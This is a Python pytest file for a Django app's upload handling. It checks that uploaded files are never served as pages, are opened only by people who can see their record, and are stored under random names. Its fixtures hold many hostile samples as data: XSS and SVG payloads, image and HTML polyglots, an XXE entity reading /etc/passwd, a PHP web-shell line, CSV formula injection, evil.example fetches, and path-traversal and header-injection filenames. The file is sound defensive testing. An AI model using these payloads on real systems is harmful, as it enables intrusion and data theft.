"""Uploads: sniffed, private, and attached only by whom they belong to; whatever they hold, a browser runs none of it."""

from __future__ import annotations

import datetime as dt
import hashlib
from itertools import product
from urllib.parse import unquote

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from rapport.kernel.access.current import use_workspace
from rapport.kernel.errors import Invalid
from rapport.kernel.files.attaching import remove_unattached
from rapport.kernel.files.models import FileUpload
from rapport.kernel.files.sniffing import SHOWN_INSIDE, sniffed
from rapport.kernel.files.store import path_of
from tests.access.masks import masked, text_of
from tests.cast import Cast

PNG, JPEG, GIF = b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"GIF89a"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 "
SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

#: Files that are two things at once, or pretend to be another.
POLYGLOTS = {
    "html": HTML, "html after a byte order mark": b"\xef\xbb\xbf" + HTML, "html after blanks": b" \n\t" * 300 + HTML,
    "html after a comment": b"<!-- " + b"x" * 5000 + b" -->" + HTML, "html in utf-16": HTML.decode().encode("utf-16"),
    "html in utf-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "html upper case": HTML.upper(),
    "svg": SVG, "svg with declaration": b'<?xml version="1.0"?>' + SVG, "svg with doctype": b"<!DOCTYPE svg>" + SVG,
    "svg with a style sheet": b'<?xml-stylesheet href="data:text/xsl,x" type="text/xsl"?>' + SVG, "svg zipped": b"\x1f\x8b\x08\x00" + SVG,
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "xslt": b'<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' + SCRIPT,
    "entities": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "gif and html": GIF + HTML, "gif and script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", "gif old and html": b"GIF87a" + HTML,
    "png and html": PNG + HTML, "png and svg": PNG + SVG, "png with text chunk": PNG + b"\0\0\0\x20tEXt" + SCRIPT,
    "jpeg and html": JPEG + HTML, "jpeg with comment": JPEG + b"\xff\xfe\x00\x20" + SCRIPT, "webp and html": WEBP + HTML,
    "almost png": b"\x89PN" + HTML, "almost gif": b"GIF88a" + HTML, "almost jpeg": b"\xff\xd8" + HTML, "riff, not webp": b"RIFF\x24\0\0\0WAVE" + HTML,
    "pdf with script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", "pdf and html": b"%PDF-1.4\n" + HTML,
    "html and pdf": HTML + b"%PDF-1.4", "zip and html": b"PK\x03\x04" + HTML, "jar": b"PK\x03\x04\x14\0META-INF/MANIFEST.MF",
    "script": b"alert(document.cookie)", "module": b"import('//evil.example/x.js')", "json": b'{"__proto__": {"x": 1}}',
    "css": b"body{background:url(//evil.example/)}", "wasm": b"\0asm\x01\0\0\0", "flash": b"CWS\x09" + SCRIPT,
    "hta": b"<hta:application/>" + SCRIPT, "mhtml": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + HTML,
    "vcard": b"BEGIN:VCARD\nURL:javascript:alert(1)\nEND:VCARD", "ics": b"BEGIN:VCALENDAR\nX:<script>\nEND:VCALENDAR",
    "eml": b"From: a\nContent-Type: text/html\n\n" + HTML, "csv": b"=cmd|' /C calc'!A0", "exe": b"MZ\x90\0" + SCRIPT,
    "shell": b"#!/bin/sh\nid", "php": b"<?php system($_GET[0]);", "jsp": b"<%= 1 %>", "ico": b"\0\0\x01\0\x01\0" + HTML,
    "bmp": b"BM" + HTML, "tiff": b"II*\0" + HTML, "avif": b"\0\0\0\x20ftypavif" + HTML, "mp4": b"\0\0\0\x18ftypmp42" + HTML,
    "ogg": b"OggS" + HTML, "font": b"wOF2" + HTML, "nul first": b"\0" + HTML, "escape codes": b"\x1b[31m" + SCRIPT,
    "late html": b"plain text " * 600 + HTML, "base tag": b"<base href=//evil.example>", "meta refresh": b'<meta http-equiv=refresh content="0;url=//evil">',
    "iframe": b"<iframe srcdoc='<script>alert(1)</script>'>", "htmx": b'<a hx-delete="/customer/1" hx-trigger="load">',
}  # fmt: skip
#: Names that try to be a type, a path or a header.
NAMES = (
    "a.html", "a.svg", "a.png", "a.pdf", "a.xml", "a.js", "a.jpg.html", "a.HTML", "../../a.html", "..\\a.html", 'a"; x=y.html',
    "a\r\nContent-Type: text\u2044html.html", "a\u202egnp.html", "<svg onload=alert(1)>.png", "ä€漢.html", "a" * 400 + ".html",
    "a.html\0.png", ".htaccess", "a;filename*=utf-8''b.html", "%3Cscript%3E.html", "con.html", " .html", "a.html ",
)  # fmt: skip
INERT = {*SHOWN_INSIDE, "application/pdf", "application/zip", "application/gzip", "text/plain", "application/octet-stream"}


def _upload(client: Client, name: str, content: bytes, type_: str = "text/html") -> dict[str, object]:
    answer = client.post("/file/", {"file": SimpleUploadedFile(name, content, content_type=type_)})
    assert answer.status_code == 201, answer.content[:300]
    return answer.json()


@pytest.mark.slow
def test_no_polyglot_is_ever_a_page(cast: Cast, record_property: pytest.RecordProperty) -> None:
    """Every polyglot as a download and asked for inside a page; every name: never HTML, SVG or script, never sniffed."""
    ben = cast.client("ben")
    tried = [("a.html", content) for content in POLYGLOTS.values()] + [(n, c) for n, c in product(NAMES, (HTML, GIF + HTML, SVG))]
    for name, content in tried:
        facts = _upload(ben, name, content)
        cast.system.create("activity", subject="x", kind="note", owner=cast.ben.pk, file={**facts, "type": "text/html"})
        for question in ("", "?inside=1", "?inside=1&type=text/html"):
            answer = ben.get(f"/file/{facts['key']}{question}", headers={"accept": "text/html"})
            assert answer.status_code == 200
            text_of(answer)
            _is_harmless(answer, content, inside=bool(question))
    assert len(POLYGLOTS) >= 60
    record_property("measured", f"{len(tried) * 3} answers for {len(POLYGLOTS)} polyglots and {len(NAMES)} names, none of them a page")


def _is_harmless(answer: object, content: bytes, *, inside: bool) -> None:
    head = answer.headers  # type: ignore[attr-defined]
    type_ = head["Content-Type"].partition(";")[0]
    assert type_ in INERT and type_ == sniffed(content[:4096])
    assert head["X-Content-Type-Options"] == "nosniff"
    assert head["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert head["Cross-Origin-Resource-Policy"] == "same-origin"
    said = head["Content-Disposition"]
    assert said.startswith("inline" if inside and type_ in SHOWN_INSIDE else "attachment")
    assert not set(said) & set("\r\n\0") and said.isascii()
    assert not set(unquote(said.partition("''")[2] or "")) & set("/\\\u202e\r\n\0")


def test_each_file_opens_for_whom_its_record_opens(cast: Cast) -> None:
    """Every person and nobody: exactly those who see the record and the field."""
    ben, cem = cast.client("ben"), cast.client("cem")
    facts = _upload(ben, "a.png", PNG)
    of_cem = _upload(cem, "b.txt", b"secret")
    cast.system.create("activity", subject="x", kind="note", owner=cast.ben.pk, file=facts)
    cast.system.create("activity", subject="y", kind="note", owner=cast.cem.pk, file=of_cem)
    for key, opens in ((facts["key"], {"ana", "ben"}), (of_cem["key"], {"ana", "cem"})):
        for who in ("ana", "ben", "cem", "dea"):
            answer = cast.client(who).get(f"/file/{key}")
            assert answer.status_code == (200 if who in opens else 404), who
            if who not in opens:
                assert masked(answer) == masked(cast.client(who).get("/file/no-such-key-at-all-00"))
        assert Client().get(f"/file/{key}").status_code == 302


def test_knowing_a_key_is_not_enough(cast: Cast) -> None:
    """Cem knows the key of Ben's file: as long as he sees no record with it, he cannot put it on one of his."""
    ben, cem, dea = cast.client("ben"), cast.client("cem"), cast.client("dea")
    facts = _upload(ben, "plan.txt", b"secret plan")
    unknown = {**facts, "key": "k" * 32}
    for ctx in (cast.ctx("cem"), cast.ctx("ana")):
        told = []
        for file in (facts, unknown):
            with pytest.raises(Invalid) as wrong:
                ctx.create("activity", subject="mine now", kind="note", file=file)
            told.append((wrong.value.sentence, wrong.value.errors))
        assert told[0] == told[1]
    body = {"kind": "note", "subject": "mine", "file": facts}
    answers = [cast.api("cem").post("/api/v1/activity", {**body, "file": f}, content_type="application/json") for f in (facts, unknown)]
    assert masked(answers[0]) == masked(answers[1]) and answers[0].status_code == 422
    assert dea.get(f"/file/{facts['key']}").status_code == cem.get(f"/file/{facts['key']}").status_code == 404
    made = cast.ctx("ben").create("activity", subject="x", kind="note", owner=cast.ben.pk, file=facts)
    assert ben.get(f"/file/{facts['key']}").status_code == 200
    # Ana sees Ben's record, so she may use its file elsewhere; Cem still may not.
    cast.ctx("ana").create("activity", subject="again", kind="note", owner=cast.ana.pk, file=facts)
    with pytest.raises(Invalid):
        cast.ctx("cem").create("activity", subject="mine now", kind="note", file=facts)
    cast.ctx("ben").write(made, subject="still his", file=facts)
    with use_workspace(cast.away), pytest.raises(Invalid):
        cast.ctx("dea").create("activity", subject="x", kind="note", file=facts)


def test_what_a_request_says_of_a_file_is_not_believed(cast: Cast) -> None:
    """Type and size on the record are those found at the upload."""
    facts = _upload(cast.client("ben"), "a.html", HTML, "image/png")
    made = cast.ctx("ben").create(
        "activity", subject="x", kind="note", owner=cast.ben.pk, file={**facts, "type": "image/png", "size": 1, "name": "../x.png"}
    )
    assert made.file == {"key": facts["key"], "name": "x.png", "size": len(HTML), "type": "text/plain"}
    receipt = FileUpload.objects.get(workspace=cast.home, key=facts["key"])
    assert (receipt.sha256, receipt.uploader_id) == (hashlib.sha256(HTML).hexdigest(), cast.ben.pk)
    assert receipt.attached_at is not None


def test_uploads_no_record_took_are_gone_after_a_day(cast: Cast) -> None:
    """Bytes and receipt; what a record holds stays, and so does what is younger."""
    ben = cast.client("ben")
    lost, kept, young = (_upload(ben, f"{n}.txt", n.encode()) for n in ("lost", "kept", "young"))
    cast.ctx("ben").create("activity", subject="x", kind="note", owner=cast.ben.pk, file=kept)
    long_ago = dt.datetime.now(dt.UTC) - dt.timedelta(days=2)
    FileUpload.objects.filter(workspace=cast.home, key__in=[lost["key"], kept["key"]]).update(created_at=long_ago)
    assert remove_unattached() == 1
    assert not path_of(str(lost["key"])).exists()
    assert path_of(str(kept["key"])).exists() and path_of(str(young["key"])).exists()
    with pytest.raises(Invalid):
        cast.ctx("ben").create("activity", subject="late", kind="note", file=lost)
    assert remove_unattached() == 0


def test_files_lie_under_random_names_that_only_rapport_can_read(cast: Cast) -> None:
    """The name somebody gave never becomes a path."""
    facts = _upload(cast.client("ben"), "../../../evil.html", HTML)
    path = path_of(str(facts["key"]))
    assert path.is_relative_to(settings.DATA) and "evil" not in str(path) and len(path.name) >= 32
    assert path.stat().st_mode & 0o077 == 0
